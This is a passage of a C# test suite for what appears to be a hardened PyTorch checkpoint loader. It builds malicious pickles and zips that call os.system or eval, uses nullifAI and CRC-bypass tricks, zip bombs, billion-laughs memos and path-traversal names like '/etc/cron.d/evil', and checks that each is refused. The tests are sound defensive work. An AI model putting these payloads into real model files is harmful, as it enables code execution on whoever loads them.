
    // =====================================================================================
    // Stream-structure tricks (26-32)
    // =====================================================================================

    /// <summary>A benign pickle followed by a malicious one in the same data.pkl / legacy stream: the second is never run.</summary>
    [Theory]
    [InlineData(true), InlineData(false)]
    public void P26_BenignThenMaliciousSecondPickleNeverRun(bool weightsOnly)
    {
        using var box = new HostileSandbox();
        var malicious = OsSystem(box);

        var zip = box.Load(Wrap(Container.Zip, [.. HostilePickle.Benign(), .. malicious]), weightsOnly);
        AssertBenignRoot(zip);
        Assert.Contains(zip.Checkpoint!.Warnings, w => w.Contains("after its STOP"));
        Assert.DoesNotContain("os.system", zip.Checkpoint.Globals);

        var legacy = box.Load(HostileLegacy.Stream(HostileLegacy.WithObject(HostilePickle.Benign()), malicious), weightsOnly);
        AssertBenignRoot(legacy);
        Assert.Contains(legacy.Checkpoint!.Warnings, w => w.Contains("follow the last storage"));
        Assert.DoesNotContain("os.system", legacy.Checkpoint.Globals);

        // a raw benign pickle followed by a malicious one: the first is no magic number, so nothing more is read
        Refused(box.Load([.. HostilePickle.Benign(), .. malicious], weightsOnly, "two.pkl"), NotACheckpoint);
    }

    /// <summary>The legacy stream's helper pickles (sys_info, storage keys) go through the restricted unpickler too.</summary>
    [Theory]
    [InlineData("sys_info"), InlineData("keys"), InlineData("version")]
    public void P26_MaliciousLegacyHelperPickleRefused(string part)
    {
        using var box = new HostileSandbox();
        var malicious = OsSystem(box);
        var file = part switch
        {
            "sys_info" => HostileLegacy.Stream(HostileLegacy.Magic(), HostileLegacy.ProtocolVersion(), malicious, HostilePickle.Benign(), HostileLegacy.Keys()),
            "keys" => HostileLegacy.Stream(HostileLegacy.Magic(), HostileLegacy.ProtocolVersion(), HostileLegacy.SysInfo(), HostilePickle.Benign(), malicious),
            _ => HostileLegacy.Stream(HostileLegacy.Magic(), malicious, HostileLegacy.SysInfo(), HostilePickle.Benign(), HostileLegacy.Keys()),
        };
        Refused(box.Load(file, true), UnsafeGlobal, "os.system");
        var permissive = box.Load(file, false);
        switch (part)
        {
            case "sys_info": AssertBenignRoot(permissive); break;            // read and ignored, as torch does
            case "keys": Refused(permissive, MalformedPickle); break;         // the key list is an inert object, not a list
            default: Refused(permissive, UnsupportedVersion); break;          // the version is an inert object, not 1001
        }
    }

    /// <summary>Two central-directory entries named archive/data.pkl (first benign, second malicious).</summary>
    [Theory]
    [InlineData(true), InlineData(false)]
    public void P26_DuplicateDataPklRecordsRefused(bool weightsOnly)
    {
        using var box = new HostileSandbox();
        var z = new HostileZip();
        z.Add("archive/data.pkl", HostilePickle.Benign());
        z.Add("archive/data.pkl", OsSystem(box));
        z.Add("archive/version", "3\n");
        Refused(box.Load(z.ToArray(), weightsOnly), DuplicateRecord);

        var z2 = new HostileZip();
        z2.Add("archive/data.pkl", OsSystem(box));
        z2.Add("archive/version", "3\n");
        z2.Add("archive/version", "99\n");
        Refused(box.Load(z2.ToArray(), weightsOnly), DuplicateRecord);
    }

    /// <summary>"nullifAI": payload first, then a deliberately broken stream. The payload is refused before the break is reached.</summary>
    [Theory]
    [InlineData("stack_underflow"), InlineData("bad_opcode"), InlineData("stop_on_empty")]
    public void P27_PayloadThenBrokenStreamRefused(string breakage)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(2).Global("os", "system").Str(box.Touch).Tuple1().Reduce();
        switch (breakage)
        {
            case "stack_underflow": p.Pop().Pop().Pop(); break;
            case "bad_opcode": p.Op(0xFF).Stop(); break;
            default: p.Pop().Stop(); break;
        }
        var pkl = p.ToArray();
        var file = Wrap(Container.Zip, pkl);
        Refused(box.Load(file, true), UnsafeGlobal, "os.system");
        Refused(box.Load(file, false), breakage == "bad_opcode" ? UnsupportedOpcode : MalformedPickle);

        Refused(box.Load(pkl, true, "nullifai.pkl"), UnsafeGlobal, "os.system");
        Refused(box.Load(pkl, false, "nullifai.pkl"), NotACheckpoint);

        var legacy = HostileLegacy.WithObject(pkl);
        Refused(box.Load(legacy, true, "legacy.pt"), UnsafeGlobal, "os.system");
        RefusedAny(box.Load(legacy, false, "legacy.pt"), MalformedPickle, UnsupportedOpcode);
    }

    /// <summary>Invalid opcode or truncation right after a dangerous REDUCE (picklescan broken_model.pkl).</summary>
    [Theory]
    [InlineData("no_stop", TruncatedCheckpoint)]
    [InlineData("cut_in_argument", TruncatedCheckpoint)]
    [InlineData("invalid_opcode_00", UnsupportedOpcode)]
    [InlineData("ext1", UnsupportedOpcode)]
    [InlineData("next_buffer", UnsupportedOpcode)]
    public void P28_InvalidOpcodeOrTruncationAfterReduceRefused(string variant, TorchLoadErrorReason permissiveReason)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(5).Global("posix", "system").Str(box.Touch).Tuple1().Reduce();
        switch (variant)
        {
            case "no_stop": break;
            case "cut_in_argument": p.BinUnicodeHeader(40).Raw("abc"); break;
            case "invalid_opcode_00": p.Op(0x00).Stop(); break;
            case "ext1": p.Op(0x82).Op(1).Stop(); break;
            default: p.Op(0x97).Stop(); break;
        }
        var file = Wrap(Container.Zip, p.ToArray());
        Refused(box.Load(file, true), UnsafeGlobal, "posix.system");
        Refused(box.Load(file, false), permissiveReason);
    }

    /// <summary>Opcodes that no checkpoint needs are refused even without a payload.</summary>
    [Theory]
    [InlineData(new byte[] { 0x82, 0x01 })]
    [InlineData(new byte[] { 0x83, 0x01, 0x00 })]
    [InlineData(new byte[] { 0x84, 0x01, 0x00, 0x00, 0x00 })]
    [InlineData(new byte[] { 0x97 })]
    [InlineData(new byte[] { 0x98 })]
    public void P28_ExtensionRegistryAndBufferOpcodesRefused(byte[] opcode)
    {
        using var box = new HostileSandbox();
        var file = Wrap(Container.Zip, new HostilePickle().Proto(5).Raw(opcode).Stop().ToArray());
        Refused(box.Load(file, true), UnsupportedOpcode);
        Refused(box.Load(file, false), UnsupportedOpcode);
    }

    /// <summary>FRAME lengths that disagree with the opcodes inside: the loader's one pass is also its only scan, so a payload is never missed.</summary>
    [Theory]
    [InlineData("straddle_global")]
    [InlineData("straddle_binunicode")]
    [InlineData("frame_in_frame")]
    [InlineData("frame_too_long")]
    [InlineData("frame_2pow63")]
    [InlineData("zero_frame")]
    public void P29_FrameLengthMismatchRefused(string variant)
    {
        using var box = new HostileSandbox();
        var body = new HostilePickle().Global("os", "system").Str(box.Touch).Tuple1().Reduce().Stop().ToArray();
        var p = new HostilePickle().Proto(4);
        switch (variant)
        {
            case "straddle_global": p.Frame(5).Append(new HostilePickle().Raw(body)); break;      // GLOBAL straddles the frame end
            case "straddle_binunicode":
                {
                    var b = new HostilePickle().Str("os").Str("system").StackGlobal().Str(box.Touch).Tuple1().Reduce().Stop().ToArray();
                    p.Frame(6).Raw(b);                                                           // 'system' straddles
                    break;
                }
            case "frame_in_frame": p.Frame((ulong)body.Length + 9).Frame((ulong)body.Length).Raw(body); break;
            case "frame_too_long": p.Frame((ulong)body.Length + 100).Raw(body); break;
            case "frame_2pow63": p.Frame(1UL << 63).Raw(body); break;
            default: p.Frame(0).Frame(0).Raw(body); break;
        }
        var file = Wrap(Container.Zip, p.ToArray());
        var safe = box.Load(file, true);
        var e = RefusedAny(safe, UnsafeGlobal, MalformedPickle, TruncatedCheckpoint);
        if (e.Reason == UnsafeGlobal) Assert.Equal("os.system", e.GlobalName);
        if (variant is "frame_too_long" or "frame_2pow63") Assert.Equal(TruncatedCheckpoint, e.Reason);

        var permissive = box.Load(file, false);
        if (permissive.Error is null) InertRoot(permissive, "os.system");
        else RefusedAny(permissive, MalformedPickle, TruncatedCheckpoint);
    }

    /// <summary>Duplicate, misplaced and unknown PROTO opcodes.</summary>
    [Theory]
    [InlineData("double", 2, 4)]
    [InlineData("misplaced", 2, 5)]
    [InlineData("downgrade", 5, 0)]
    public void P30_DuplicateOrMisplacedProtoRefused(string variant, int first, int second)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(first);
        if (variant == "misplaced") p.Global("os", "system").Proto(second).Str(box.Touch).Proto(second).Tuple1().Reduce().Stop();
        else p.Proto(second).Global("os", "system").Str(box.Touch).Tuple1().Reduce().Stop();
        var file = Wrap(Container.Zip, p.ToArray());
        Refused(box.Load(file, true), UnsafeGlobal, "os.system");
        InertRoot(box.Load(file, false), "os.system");

        // benign data with extra PROTOs still loads (Python accepts PROTO anywhere)
        var benign = new HostilePickle().Proto(first).EmptyDict().Proto(second).Str("ok").Int(1).Proto(2).SetItem().Stop().ToArray();
        AssertBenignRoot(box.Load(Wrap(Container.Zip, benign), true));
    }

    [Theory]
    [InlineData(6), InlineData(0x7F), InlineData(0xFF)]
    public void P30_UnknownProtoVersionRefused(int version)
    {
        using var box = new HostileSandbox();
        var file = Wrap(Container.Zip, new HostilePickle().Proto(version).Global("os", "system").Str(box.Touch).Tuple1().Reduce().Stop().ToArray());
        Refused(box.Load(file, true), MalformedPickle);
        Refused(box.Load(file, false), MalformedPickle);
    }

    /// <summary>Memo "billion laughs": 20 levels of lists that each reference the previous level 1000 times. Must finish quickly, shared by reference.</summary>
    [Theory]
    [InlineData(true), InlineData(false)]
    public void P31_MemoBillionLaughsFinishesQuickly(bool weightsOnly)
    {
        using var box = new HostileSandbox();
        const int Levels = 20, Width = 1000;
        var p = new HostilePickle().Proto(2).EmptyList().LongBinPut(0).Pop();
        for (uint level = 1; level <= Levels; level++)
        {
            p.EmptyList().Mark();
            for (var k = 0; k < Width; k++) p.LongBinGet(level - 1);
            p.Appends().LongBinPut(level);
            if (level < Levels) p.Pop();
        }
        var outcome = box.Load(Wrap(Container.Zip, p.Stop().ToArray()), weightsOnly);
        var root = Assert.IsType<List<object?>>(outcome.Root);
        Assert.Equal(Width, root.Count);
        Assert.Same(root[0], root[Width - 1]);
        Assert.True(outcome.Elapsed < TimeSpan.FromSeconds(5), $"billion laughs took {outcome.Elapsed}");

        // the same with tuples and dicts
        var q = new HostilePickle().Proto(2).EmptyDict().LongBinPut(0).Pop();
        for (uint level = 1; level <= Levels; level++)
        {
            q.Mark();
            for (var k = 0; k < Width; k++) q.LongBinGet(level - 1);
            q.Tuple().LongBinPut(level);
            if (level < Levels) q.Pop();
        }
        var tuples = box.Load(Wrap(Container.Zip, q.Stop().ToArray()), weightsOnly);
        var t = Assert.IsType<object?[]>(tuples.Root);
        Assert.Same(t[0], t[Width - 1]);
    }

    /// <summary>Memo, stack and container limits stop amplification with LimitExceeded naming the limit.</summary>
    [Theory]
    [InlineData("memo", nameof(LoadLimits.MaxMemoEntries))]
    [InlineData("stack", nameof(LoadLimits.MaxStackItems))]
    [InlineData("container", nameof(LoadLimits.MaxContainerItems))]
    public void P31_MemoAndStackAmplificationHitsLimits(string variant, string limitName)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(2);
        switch (variant)
        {
            case "memo":
                p.None();
                for (uint i = 0; i < 5000; i++) p.LongBinPut(i);
                break;
            case "stack":
                for (var i = 0; i < 50_000; i++) p.None();
                break;
            default:
                p.EmptyList().LongBinPut(0).Pop().EmptyList().Mark();
                for (var i = 0; i < 5000; i++) p.LongBinGet(0);
                p.Appends();
                break;
        }
        var file = Wrap(Container.Zip, p.Stop().ToArray());
        foreach (var weightsOnly in new[] { true, false })
        {
            var e = Refused(box.Load(file, weightsOnly, tweak: o => o with
            {
                Limits = LoadLimits.Default with { MaxMemoEntries = 1000, MaxStackItems = 10_000, MaxContainerItems = 1000 },
            }), LimitExceeded);
            Assert.Equal(limitName, e.LimitName);
        }
    }

    /// <summary>Deep nesting: 100k MARKs hit the depth limit; 100k nested lists (no MARK) give a bounded result or a limit, never a stack overflow.</summary>
    [Theory]
    [InlineData("marks"), InlineData("nested_lists"), InlineData("nested_dicts"), InlineData("nested_tuples_marks")]
    public void P31_DeepNesting100kBoundedOrLimitExceeded(string variant)
    {
        using var box = new HostileSandbox();
        const int Depth = 100_000;
        var p = new HostilePickle().Proto(2);
        switch (variant)
        {
            case "marks":
                for (var i = 0; i < Depth; i++) p.Mark();
                p.None();
                for (var i = 0; i < Depth; i++) p.Tuple();
                break;
            case "nested_lists":
                for (var i = 0; i < Depth; i++) p.EmptyList();
                for (var i = 0; i < Depth - 1; i++) p.AppendOp();
                break;
            case "nested_dicts":
                p.EmptyDict();
                for (var i = 1; i < Depth; i++) p.Int(0).EmptyDict();
                for (var i = 1; i < Depth; i++) p.SetItem();
                break;
            default:
                for (var i = 0; i < Depth; i++) p.Mark().EmptyList();
                for (var i = 0; i < Depth; i++) p.Tuple();
                break;
        }
        var file = Wrap(Container.Zip, p.Stop().ToArray());
        foreach (var weightsOnly in new[] { true, false })
        {
            var o = box.Load(file, weightsOnly);
            if (variant is "marks" or "nested_tuples_marks")
            {
                Assert.Equal(nameof(LoadLimits.MaxNestingDepth), Refused(o, LimitExceeded).LimitName);
                continue;
            }
            if (o.Error is not null) { Refused(o, LimitExceeded); continue; }
            // bounded: walk it iteratively and count the levels
            var depth = 0;
            for (object? v = o.Root; v is not null; depth++)
                v = v switch
                {
                    List<object?> { Count: 1 } l => l[0],
                    PyDict { Count: 1 } d => d[0L],
                    _ => null,
                };
            Assert.Equal(Depth, depth);
        }
    }

    /// <summary>Huge declared lengths (BINUNICODE8/BINBYTES8 of 2^62, ...) against a tiny file: refused before anything is allocated.</summary>
    [Theory]
    [InlineData("BINUNICODE8_2pow62")]
    [InlineData("BINUNICODE8_max")]
    [InlineData("BINBYTES8_2pow62")]
    [InlineData("BYTEARRAY8_2pow63")]
    [InlineData("BINUNICODE_4G")]
    [InlineData("BINBYTES_4G")]
    [InlineData("BINUNICODE_1000")]
    [InlineData("BINSTRING_2G")]
    [InlineData("LONG4_2G")]
    [InlineData("FRAME_2pow62")]
    public void P32_HugeDeclaredLengthsRefusedWithoutAllocating(string variant)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(5);
        _ = variant switch
        {
            "BINUNICODE8_2pow62" => p.BinUnicode8Header(1UL << 62),
            "BINUNICODE8_max" => p.BinUnicode8Header(ulong.MaxValue),
            "BINBYTES8_2pow62" => p.BinBytes8Header(1UL << 62),
            "BYTEARRAY8_2pow63" => p.ByteArray8Header(1UL << 63),
            "BINUNICODE_4G" => p.BinUnicodeHeader(uint.MaxValue),
            "BINBYTES_4G" => p.BinBytesHeader(0xFFFFFFF0),
            "BINUNICODE_1000" => p.BinUnicodeHeader(1000),
            "BINSTRING_2G" => p.BinStringHeader(int.MaxValue),
            "LONG4_2G" => p.Long4Header(int.MaxValue),
            _ => p.Frame(1UL << 62),
        };
        var pkl = p.Raw("AAAAAAAAAAAAAAAA").Stop().ToArray();
        foreach (var weightsOnly in new[] { true, false })
        {
            var e = RefusedAny(box.Load(Wrap(Container.Zip, pkl), weightsOnly), TruncatedCheckpoint, LimitExceeded);
            Assert.NotEqual("memory", e.LimitName); // refused by a check, not by running out of memory
            Refused(box.Load(pkl, weightsOnly, "raw.pkl"), NotACheckpoint);
        }
    }

    /// <summary>Integers with a million decimal digits (INT / LONG text opcodes): bounded time (CPython refuses more than 4300 digits).</summary>
    [Theory]
    [InlineData("INT"), InlineData("LONG")]
    public void P32_HugeDecimalIntegerBoundedTime(string opcode)
    {
        using var box = new HostileSandbox();
        var digits = new string('7', 10_000_000);
        var p = new HostilePickle().Proto(2);
        if (opcode == "INT") p.IntText(digits); else p.LongText(digits);
        var file = Wrap(Container.Zip, p.Stop().ToArray());
        var o = box.Load(file, true, maxManagedBytes: 256L << 20);
        if (o.Error is not null) RefusedAny(o, LimitExceeded, MalformedPickle);
        Assert.True(o.Elapsed < TimeSpan.FromSeconds(5), $"parsing a 1M-digit integer took {o.Elapsed}");
    }

    /// <summary>data.pkl deflated with a huge declared size: refused before the pickle buffer is allocated.</summary>
    [Theory]
    [InlineData(3_000_000_000L, nameof(LoadLimits.MaxPickleBytes))]
    [InlineData(2_000_000_000L, nameof(LoadLimits.MaxInflateRatio))]
    [InlineData(200_000_000L, nameof(LoadLimits.MaxInflateRatio))]
    public void P32_HugeDeclaredDataPklSizeRefusedBeforeAllocating(long declared, string limitName)
    {
        using var box = new HostileSandbox();
        var file = ZipWith(OsSystem(box), e => { e.Method = 8; e.DeclaredSize = declared; });
        foreach (var weightsOnly in new[] { true, false })
        {
            var e = Refused(box.Load(file, weightsOnly), LimitExceeded);
            Assert.Equal(limitName, e.LimitName);
        }
    }

    // =====================================================================================
    // Container tricks (33-44)
    // =====================================================================================

    /// <summary>Zip general-purpose flag bits (0x1 encrypted, 0x8 data descriptor, 0x20, 0x40, 0x800): the payload is still seen and refused.</summary>
    [Theory]
    [InlineData((ushort)0x0001)]
    [InlineData((ushort)0x0008)]
    [InlineData((ushort)0x0020)]
    [InlineData((ushort)0x0040)]
    [InlineData((ushort)0x0808)]
    [InlineData((ushort)0x0041)]
    public void P33_ZipFlagBitsDoNotHidePayload(ushort flags)
    {
        using var box = new HostileSandbox();
        void Tweak(HostileZip.Entry e)
        {
            e.Flags = (ushort)(flags & ~0x8);
            e.DataDescriptor = (flags & 0x8) != 0;
        }
        var file = ZipWith(OsSystem(box), Tweak);
        var encrypted = (flags & 1) != 0;

        var safe = box.Load(file, true);
        if (encrypted) Refused(safe, UnsupportedCompression);
        else Refused(safe, UnsafeGlobal, "os.system");
        var permissive = box.Load(file, false);
        if (encrypted) Refused(permissive, UnsupportedCompression);
        else InertRoot(permissive, "os.system");

        // benign content with the same flags: torch tolerates odd bits; an encrypted record is refused, never mis-read
        var benign = box.Load(ZipWith(HostilePickle.Benign(), Tweak), true);
        if (encrypted) Refused(benign, UnsupportedCompression);
        else AssertBenignRoot(benign);
    }

    /// <summary>Central-directory name differs from the local header name ('data.pkl' vs 'datap.kl').</summary>
    [Theory]
    [InlineData("archive/data.pkl", "archive/datap.kl")]
    [InlineData("archive/datap.kl", "archive/data.pkl")]
    [InlineData("archive/data.pkl", "archive/data.pkl\0")]
    [InlineData("archive/data.pkl", "ARCHIVE/DATA.PKL")]
    public void P34_CentralAndLocalNameMismatchRefused(string centralName, string localName)
    {
        using var box = new HostileSandbox();
        var z = new HostileZip();
        var e = z.Add(centralName, OsSystem(box));
        e.LocalName = localName;
        z.Add("archive/data.pkl.bak", HostilePickle.Benign());
        z.Add("archive/version", "3\n");
        var file = z.ToArray();
        Refused(box.Load(file, true), InvalidArchive);
        Refused(box.Load(file, false), InvalidArchive);
    }

    /// <summary>Record names that leave the archive folder: '..', absolute, backslashes, drive letters, NUL.</summary>
    [Theory]
    [InlineData("../../evil/data.pkl", InvalidRecordName)]
    [InlineData("archive/../../evil/x", InvalidRecordName)]
    [InlineData("/etc/cron.d/evil", InvalidRecordName)]
    [InlineData("archive\\..\\evil", InvalidRecordName)]
    [InlineData("C:/Windows/evil", InvalidRecordName)]
    [InlineData("archive/da\0ta.pkl", InvalidRecordName)]
    [InlineData("other/data.pkl", InvalidRecordName)]
    public void P34_PathTraversalRecordNamesRefused(string badName, TorchLoadErrorReason reason)
    {
        using var box = new HostileSandbox();
        foreach (var first in new[] { true, false })
        {
            var z = new HostileZip();
            if (first) z.Add(badName, OsSystem(box));
            z.Add("archive/data.pkl", HostilePickle.Benign());
            if (!first) z.Add(badName, OsSystem(box));
            z.Add("archive/version", "3\n");
            var file = z.ToArray();
            // 'other/...' as the first record just makes 'other' the prefix; everything else is outside it
            var expected = first && badName == "other/data.pkl" ? InvalidRecordName : reason;
            Refused(box.Load(file, true), expected);
            Refused(box.Load(file, false), expected);
            Assert.Empty(Directory.GetFileSystemEntries(box.Dir, "evil*", SearchOption.AllDirectories));
        }
        Assert.False(Directory.Exists(Path.Combine(box.Dir, "..", "evil")));
    }

    /// <summary>CRC mismatch on data.pkl (JFrog "CRC bypass"): torch ignores CRCs, so the payload must still be inspected and refused.</summary>
    [Theory]
    [InlineData(0xDEADBEEFu), InlineData(0u)]
    public void P35_CrcMismatchDoesNotHidePayload(uint crc)
    {
        using var box = new HostileSandbox();
        var file = ZipWith(OsSystem(box), e => e.Crc = crc);
        Refused(box.Load(file, true), UnsafeGlobal, "os.system");
        InertRoot(box.Load(file, false), "os.system");

        var benign = box.Load(ZipWith(HostilePickle.Benign(), e => e.Crc = crc), true);
        AssertBenignRoot(benign);
        if (crc == 0) Assert.Contains(benign.Checkpoint!.Warnings, w => w.Contains("CRC"));
    }

    /// <summary>Format detection is by content: a pickle named .bin/.txt/.safetensors, a zip named .txt, a pickle member named data.txt.</summary>
    [Theory]
    [InlineData("pytorch_model.bin", false)]
    [InlineData("notes.txt", false)]
    [InlineData("model.safetensors", false)]
    [InlineData("image.png", true)]
    [InlineData("model.txt", true)]
    [InlineData("noextension", true)]
    public void P36_NonPickleExtensionsDoNotChangeDetection(string fileName, bool zip)
    {
        using var box = new HostileSandbox();
        var bytes = zip ? Wrap(Container.Zip, OsSystem(box)) : OsSystem(box);
        Refused(box.Load(bytes, true, fileName), UnsafeGlobal, "os.system");
        var permissive = box.Load(bytes, false, fileName);
        if (zip) InertRoot(permissive, "os.system");
        else Refused(permissive, NotACheckpoint);
    }

    [Theory]
    [InlineData("archive/data.txt"), InlineData("archive/data.pkl.txt"), InlineData("archive/Data.pkl"), InlineData("archive/data/data.pkl")]
    public void P36_PickleMemberUnderAnotherNameIsNeverRun(string memberName)
    {
        using var box = new HostileSandbox();
        var z = new HostileZip();
        z.Add(memberName, OsSystem(box));
        z.Add("archive/version", "3\n");
        var file = z.ToArray();
        Refused(box.Load(file, true), MissingRecord);
        Refused(box.Load(file, false), MissingRecord);
    }

    /// <summary>A corrupted member placed before archive/data.pkl must not make the loader skip (fail open on) data.pkl.</summary>
    [Theory]
    [InlineData("bad_deflate_unused")]
    [InlineData("bad_local_signature")]
    [InlineData("bad_method")]
    [InlineData("local_method_differs")]
    public void P37_CorruptedMemberBeforeDataPklFailsClosed(string variant)
    {
        using var box = new HostileSandbox();
        var z = new HostileZip();
        z.Add("archive/.format_version", "1"); // the file must still start with a good local header to be read as a zip
        var bad = z.Add("archive/aaa_corrupt.bin", new byte[100], method: 8);
        switch (variant)
        {
            case "bad_deflate_unused": bad.RawData = [0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x01, 0x02]; break;
            case "bad_local_signature": bad.LocalSignature = 0xDEADBEEF; break;
            case "bad_method": bad.Method = 14; break;
            default: bad.LocalMethod = 0; break;
        }
        z.Add("archive/data.pkl", OsSystem(box));
        z.Add("archive/version", "3\n");
        var file = z.ToArray();
        switch (variant)
        {
            case "bad_deflate_unused":
                Refused(box.Load(file, true), UnsafeGlobal, "os.system");
                InertRoot(box.Load(file, false), "os.system");
                break;
            case "bad_method":
                Refused(box.Load(file, true), UnsupportedCompression);
                Refused(box.Load(file, false), UnsupportedCompression);
                break;
            default:
                Refused(box.Load(file, true), InvalidArchive);
                Refused(box.Load(file, false), InvalidArchive);
                break;
        }
    }

    /// <summary>A corrupted deflated storage record is reported as InvalidArchive, not read as garbage.</summary>
    [Fact]
    public void P37_CorruptedDeflatedStorageRecordRefused()
    {
        using var box = new HostileSandbox();
        var z = new HostileZip();
        z.Add("archive/data.pkl", HostilePickle.ZipStateDict(4).Stop().ToArray());
        var s = z.Add("archive/data/0", new byte[16], method: 8);
        s.RawData = [0x07, 0xFF, 0xFF, 0x13, 0x37];
        z.Add("archive/version", "3\n");
        var file = z.ToArray();
        Refused(box.Load(file, true), InvalidArchive);
        Refused(box.Load(file, false), InvalidArchive);
    }

    /// <summary>Payload inside a 7z / gzip / bzip2 container, or a password-protected zip.</summary>
    [Theory]
    [InlineData("7z"), InlineData("gzip"), InlineData("bzip2"), InlineData("xz")]
    public void P38_PayloadInsideOtherArchiveFormatsRefused(string format)
    {
        using var box = new HostileSandbox();
        byte[] magic = format switch
        {
            "7z" => [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04],
            "gzip" => [0x1F, 0x8B, 0x08, 0x00],
            "bzip2" => "BZh9"u8.ToArray(),
            _ => [0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00],
        };
        var file = magic.Concat(OsSystem(box)).ToArray();
        Refused(box.Load(file, true, "malicious1." + format), NotACheckpoint);
        Refused(box.Load(file, false, "malicious1." + format), NotACheckpoint);
    }

    [Theory]
    [InlineData((ushort)99), InlineData((ushort)0), InlineData((ushort)8)]
    public void P38_PasswordProtectedZipRefused(ushort method)
    {
        using var box = new HostileSandbox();
        var z = new HostileZip();
        var e = z.Add("archive/data.pkl", OsSystem(box), method == 8 ? (ushort)8 : (ushort)0);
        e.Method = method;
        e.Flags = 0x1;
        // ZipCrypto header + "encrypted" bytes
        e.RawData = [.. Enumerable.Repeat((byte)0xA5, 12), .. OsSystem(box).Select(b => (byte)(b ^ 0x5A))];
        z.Add("archive/version", "3\n");
        var file = z.ToArray();
        Refused(box.Load(file, true), UnsupportedCompression);
        Refused(box.Load(file, false), UnsupportedCompression);
    }

    /// <summary>Legacy file whose "magic number" is eval("0x1950A86A20F9469CFC6C"), with the payload in a later pickle.</summary>
    [Theory]
    [InlineData("builtins", "eval")]
    [InlineData("__builtin__", "eval")]
    [InlineData("builtins", "int")]
    [InlineData("ast", "literal_eval")]
    public void P39_LegacyMagicNumberFromEvalRefused(string module, string name)
    {
        using var box = new HostileSandbox();
        var fakeMagic = name == "int"
            ? new HostilePickle().Proto(2).Global(module, name).Str("1950A86A20F9469CFC6C").Int(16).Tuple2().Reduce().Stop().ToArray()
            : HostilePickle.Call(module, name, "0x1950A86A20F9469CFC6C");
        var file = HostileLegacy.Stream(fakeMagic, HostileLegacy.ProtocolVersion(), HostileLegacy.SysInfo(), OsSystem(box), HostileLegacy.Keys());
        Refused(box.Load(file, true, "pytorch_magic_bypass.pt"), UnsafeGlobal, $"{Py3Module(module)}.{name}");
        // permissive: the "magic" is an inert object, so this is no legacy checkpoint; the payload pickle is never reached
        Refused(box.Load(file, false, "pytorch_magic_bypass.pt"), NotACheckpoint);
    }

    /// <summary>The real magic in another encoding (protocol 0 LONG text) is fine; the payload behind it is still refused.</summary>
    [Fact]
    public void P39_LegacyMagicInTextEncodingStillChecksPayload()
    {
        using var box = new HostileSandbox();
        var magic = Encoding.ASCII.GetBytes("L119547037146038801333356L\n.");
        var file = HostileLegacy.Stream(magic, HostileLegacy.ProtocolVersion(), HostileLegacy.SysInfo(), OsSystem(box), HostileLegacy.Keys());
        Refused(box.Load(file, true), UnsafeGlobal, "os.system");
        InertRoot(box.Load(file, false), "os.system");
    }

    /// <summary>Zip bomb: a tiny checkpoint whose deflated data/0 expands far beyond the file (ratio limit, before inflating).</summary>
    [Theory]
    [InlineData(true), InlineData(false)]
    public void P40_ZipBombDeflatedStorageRefused(bool weightsOnly)
    {
        using var box = new HostileSandbox();
        const int Size = 16 << 20; // 16 MiB of zeros deflate to ~16 KiB
        var pkl = HostilePickle.ZipStateDict(Size / 4).Stop().ToArray();
        var z = new HostileZip();
        z.Add("archive/data.pkl", pkl);
        z.Add("archive/data/0", new byte[Size], method: 8);
        z.Add("archive/version", "3\n");
        var e = Refused(box.Load(z.ToArray(), weightsOnly), LimitExceeded);
        Assert.Equal(nameof(LoadLimits.MaxInflateRatio), e.LimitName);
    }

    /// <summary>
    /// Zip bomb with a huge declared size (ZIP64, 40 GiB) that the pickle agrees with: must be refused by the ratio
    /// limit before any buffer of that size is allocated.
    /// </summary>
    [Theory]
    [InlineData(40L << 30), InlineData(3L << 30), InlineData(1L << 30)]
    public void P40_ZipBombHugeDeclaredStorageRefusedBeforeAllocating(long declared)
    {
        using var box = new HostileSandbox();
        var pkl = HostilePickle.ZipStateDict(declared / 4).Stop().ToArray();
        var z = new HostileZip();
        z.Add("archive/data.pkl", pkl);
        var s = z.Add("archive/data/0", new byte[1 << 16], method: 8);
        s.DeclaredSize = declared;
        z.Add("archive/version", "3\n");
        var file = z.ToArray();
        foreach (var weightsOnly in new[] { true, false })
        {
            var e = Refused(box.Load(file, weightsOnly), LimitExceeded);
            Assert.Equal(nameof(LoadLimits.MaxInflateRatio), e.LimitName);
        }
    }

    /// <summary>Zip bomb the manifest way: data/0 inflates to 256 MiB while the storage needs 64 bytes; and a size lie (declares 64, inflates to 1 MiB).</summary>
    [Theory]
    [InlineData("declared_huge"), InlineData("size_lie")]
    public void P40_ZipBombStorageSizeDisagreementRefused(string variant)
    {
        using var box = new HostileSandbox();
        var pkl = HostilePickle.ZipStateDict(16).Stop().ToArray();
        var z = new HostileZip();
        z.Add("archive/data.pkl", pkl);
        if (variant == "declared_huge")
        {
            var s = z.Add("archive/data/0", new byte[1 << 16], method: 8);
            s.DeclaredSize = 256L << 20;
        }
        else
        {
            var s = z.Add("archive/data/0", new byte[1 << 20], method: 8);
            s.DeclaredSize = 64;
        }
        z.Add("archive/version", "3\n");
        var file = z.ToArray();
        foreach (var weightsOnly in new[] { true, false })
        {
            var o = box.Load(file, weightsOnly);
            if (variant == "declared_huge") Refused(o, StorageSizeMismatch);
            else Refused(o, InvalidArchive);
        }
    }

    /// <summary>Control for 40/41: the same builder with truthful sizes loads a real tensor.</summary>
    [Theory]
    [InlineData((ushort)0), InlineData((ushort)8)]
    public void P41_Control_TruthfulStorageLoads(ushort method)
    {
        using var box = new HostileSandbox();
        var bytes = new byte[16];
        BitConverter.GetBytes(1.5f).CopyTo(bytes, 4);
        var z = new HostileZip();
        z.Add("archive/data.pkl", HostilePickle.ZipStateDict(4).Stop().ToArray());
        z.Add("archive/data/0", bytes, method);
        z.Add("archive/version", "3\n");
        var o = box.Load(z.ToArray(), true);
        var t = Assert.IsType<TorchTensor>(Assert.IsType<PyDict>(o.Root)["weight"]);
        Assert.Equal([4L], t.Shape);
        Assert.Equal(bytes, t.ToByteArray());

        var legacy = box.Load(LegacyStateDict(4, 4, bytes), true, "legacy.pt");
